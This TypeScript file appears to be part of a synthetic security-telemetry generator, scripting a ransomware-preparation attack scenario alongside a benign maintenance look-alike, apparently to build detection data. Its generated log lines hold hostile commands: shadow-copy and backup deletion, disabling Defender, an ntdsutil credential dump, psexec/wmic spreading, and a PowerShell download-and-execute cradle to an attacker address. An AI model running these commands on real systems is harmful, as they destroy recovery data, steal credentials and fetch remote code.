import type { Line, Who } from '../../records/kit.ts';
import { shareFile } from '../../records/windows-domain.ts';
import { fileTouched, scriptBlock, systemEvent } from '../../records/windows.ts';
import { remoteCall, smbFile } from '../../records/zeek.ts';
import { deploys } from '../background/oddities-of-network.ts';
import { pidOf } from '../background/people.ts';
import { clientPort, insideAddress } from '../stage.ts';
import type { Story } from '../story.ts';
import { CMD, EXPLORER, POWERSHELL, SERVICES, SYSTEM, SYSTEM32 } from '../windows-paths.ts';
import { type Server, serverOf } from '../world/world.ts';
import { encodedPowerShell, lairOf, openTunnel, reach, run, runAll, takePasswords } from './moves.ts';
import type { ScenarioMaker } from './scenario-maker.ts';

/** A program goes to a host over its administrative share and is started there, by a service or by WMI. */
function spread(story: Story, { who, from, fromName, to, tool }: { readonly who: Who; readonly from: string; readonly fromName: string; readonly to: Server; readonly tool: string }): Line[] {
  const { kit, dice } = story;
  const ms = story.now();
  const flow = { from, fromPort: clientPort(story), to: to.address, toPort: 445 };
  const byService = dice.chance(0.6);
  const lines = [
    ...reach(story, { who, from, to }), smbFile(kit, ms + 1_000, { ...flow, share: 'ADMIN$', name: tool, size: 410_000 }), shareFile(kit, ms + 1_200, { host: to.name, who, address: from, share: 'ADMIN$', file: tool, isWritten: true }),
    run(story, { host: fromName, who, image: byService ? 'C:\\ProgramData\\ps.exe' : `${SYSTEM32}wbem\\WMIC.exe`, commandLine: byService ? `ps.exe psexec \\\\${to.name} -d -s C:\\Windows\\${tool}` : `wmic /node:${to.name} process call create "cmd.exe /c C:\\Windows\\${tool}"`, parentImage: CMD, integrity: 'High' }),
  ];
  return byService
    ? [...lines, remoteCall(kit, ms + 2_000, { ...flow, endpoint: 'svcctl', operation: 'CreateServiceW', pipe: '\\pipe\\svcctl' }), systemEvent(kit, ms + 2_400, { host: to.name, eventId: 7045, data: { ServiceName: 'PSEXESVC', ImagePath: '%SystemRoot%\\PSEXESVC.exe', ServiceType: 'user mode service', StartType: 'demand start', AccountName: 'LocalSystem' } })]
    : lines;
}

/** What a program for blackmail does on a host before it encrypts. */
function prepare(story: Story, host: string): Line[] {
  const { dice } = story;
  const commands = dice.some([
    [`${SYSTEM32}vssadmin.exe`, 'vssadmin.exe delete shadows /all /quiet'], [`${SYSTEM32}wbem\\WMIC.exe`, 'wmic.exe shadowcopy delete /nointeractive'], [`${SYSTEM32}bcdedit.exe`, 'bcdedit.exe /set {default} recoveryenabled no'], [`${SYSTEM32}wbadmin.exe`, 'wbadmin.exe delete catalog -quiet'],
    [`${SYSTEM32}net.exe`, 'net stop "MSSQLSERVER" /y'], [`${SYSTEM32}sc.exe`, 'sc.exe stop WinDefend'], [POWERSHELL, 'powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true'], [`${SYSTEM32}taskkill.exe`, 'taskkill /F /IM sqlservr.exe'],
  ] as const, dice.int(4, 7));
  return runAll(story, { host, who: SYSTEM, parentImage: CMD, integrity: 'System', logonId: '0x3e7' }, commands);
}

export const ransomwarePreparation: ScenarioMaker = {
  name: 'ransomware-preparation',

  attack(story) {
    const { kit, dice, world, cast } = story;
    const admin = cast.administrator();
    const lair = lairOf(story);
    const servers = [cast.server('files'), cast.server('database'), cast.server('application'), cast.server('files'), cast.server('application')].slice(0, dice.int(3, 5));
    story.lifeOf(admin, 8);
    const entry = cast.server('application');
    const who = admin.admin;
    const { inner, lines } = openTunnel(story, admin, lair.address);
    story.step('tunnel', 'A tunnel of the VPN as an administrator', 'initial-access', lines);
    story.wait(2, 30);
    story.step('entry', 'A server is reached', 'lateral-movement', reach(story, { who, from: inner, to: entry, type: 10 }));
    story.wait(1, 20);
    story.step('look', 'The domain is looked at', 'discovery', runAll(story, { host: entry.name, who, parentImage: CMD, integrity: 'High' }, dice.some([[`${SYSTEM32}nltest.exe`, 'nltest /domain_trusts'], [`${SYSTEM32}net.exe`, 'net group "Domain Admins" /domain'], ['C:\\ProgramData\\adfind.exe', 'adfind.exe -f objectcategory=computer'], [`${SYSTEM32}whoami.exe`, 'whoami /all'], [`${SYSTEM32}systeminfo.exe`, 'systeminfo']] as const, 3)));
    story.wait(2, 40);
    const ntds = { host: entry.name, who, parentImage: CMD, integrity: 'High', image: `${SYSTEM32}ntdsutil.exe`, commandLine: 'ntdsutil "ac i ntds" "ifm" "create full C:\\ProgramData\\n" q q' } as const;
    story.step('credentials', 'Passwords are taken from memory or disk', 'credential-access', dice.chance(0.2) ? [run(story, ntds)] : takePasswords(story, { host: entry.name, who, folder: 'C:\\ProgramData\\' }));
    if (dice.chance(0.5)) {
      story.wait(1, 15);
      const remote = encodedPowerShell(story, lair.address);
      story.step('control', 'A program for remote control is loaded', 'command-and-control', [run(story, { host: entry.name, who, image: POWERSHELL, commandLine: remote, parentImage: CMD, integrity: 'High' }), scriptBlock(kit, story.now() + 2_000, { host: entry.name, who, text: `IEX (New-Object Net.WebClient).DownloadString('http://${lair.address}/a')` })]);
    }
    story.wait(20, 400);
    const backup = serverOf(world, 'backup');
    story.step('backup', 'Backups are deleted', 'impact', [...reach(story, { who, from: entry.address, to: backup, type: 10 }), ...runAll(story, { host: backup.name, who, parentImage: EXPLORER, integrity: 'High' }, [[`${SYSTEM32}wbadmin.exe`, 'wbadmin.exe delete backup -keepVersions:0 -quiet'], [POWERSHELL, 'powershell.exe -Command "Get-BackupJob | Remove-BackupJob -Force"'], [`${SYSTEM32}net.exe`, 'net stop BackupAgent /y']])]);
    const tool = `${dice.one(['svch', 'upd', 'agent', 'win'])}${dice.hex(3)}.exe`;
    for (const to of servers) {
      story.wait(0.5, 4);
      story.step('spread', 'A program is spread over SMB', 'lateral-movement', spread(story, { who, from: entry.address, fromName: entry.name, to, tool }));
      story.step('prepare', 'Copies for recovery and services are removed', 'impact', prepare(story, to.name));
    }
    if (dice.chance(0.5)) {
      const host = servers[0]?.name ?? entry.name;
      const pid = pidOf(story);
      story.wait(1, 5);
      story.step('encrypt', 'Encryption begins', 'impact', Array.from({ length: dice.int(70, 150) }, (_, i) => fileTouched(kit, story.now() + i * 120, { host, who: SYSTEM, pid, image: `C:\\Windows\\${tool}`, file: `D:\\shares\\finance\\report-${i}.xlsx`, isDeleted: true })));
    }
    return story.end({ title: 'Preparation of blackmail by encryption', description: `As administrator ${admin.name} somebody comes in by VPN, deletes backups, spreads a program to ${servers.length} servers and removes what could restore them.`, severity: 'critical', domains: ['network', 'endpoint', 'identity'] });
  },

  /** Maintenance: services are stopped, room is made for backups, an agent is deployed over many hosts. */
  lookAlike(story) {
    const { world, cast } = story;
    const admin = cast.administrator();
    story.lifeOf(admin, 8);
    const jump = serverOf(world, 'jump');
    story.step('entry', 'The jump host is reached', 'lateral-movement', reach(story, { who: admin.admin, from: insideAddress(world, admin, story.now()), to: jump, type: 10 }));
    for (const to of [cast.server('database'), cast.server('application'), cast.server('files')]) {
      story.wait(3, 15);
      story.step('stop', 'Services are stopped for an update', 'impact', [...reach(story, { who: admin.admin, from: jump.address, to }), ...runAll(story, { host: to.name, who: admin.admin, parentImage: POWERSHELL, integrity: 'High' }, [[`${SYSTEM32}net.exe`, 'net stop "MSSQLSERVER" /y'], [`${SYSTEM32}wusa.exe`, 'wusa.exe C:\\patch\\update.msu /quiet /norestart'], [`${SYSTEM32}net.exe`, 'net start "MSSQLSERVER"']])]);
    }
    const files = cast.server('files');
    story.wait(5, 30);
    story.step('room', 'Backup software makes room', 'impact', [run(story, { host: files.name, who: SYSTEM, image: `${SYSTEM32}vssadmin.exe`, commandLine: 'vssadmin.exe list shadows', parentImage: 'C:\\Program Files\\Backup Agent\\agent.exe', integrity: 'System' }), run(story, { host: files.name, who: SYSTEM, image: 'C:\\Program Files\\Backup Agent\\agent.exe', commandLine: '"agent.exe" --prune --keep 14', parentImage: SERVICES, integrity: 'System' })]);
    story.wait(10, 60);
    story.step('deploy', 'An agent is deployed over many hosts', 'execution', deploys(story, story.now()));
    return story.end({ title: 'An evening of maintenance', description: `${admin.name} updates three servers; backups are thinned and a new agent goes to many hosts.`, domains: ['endpoint', 'network', 'identity'] });
  },
};
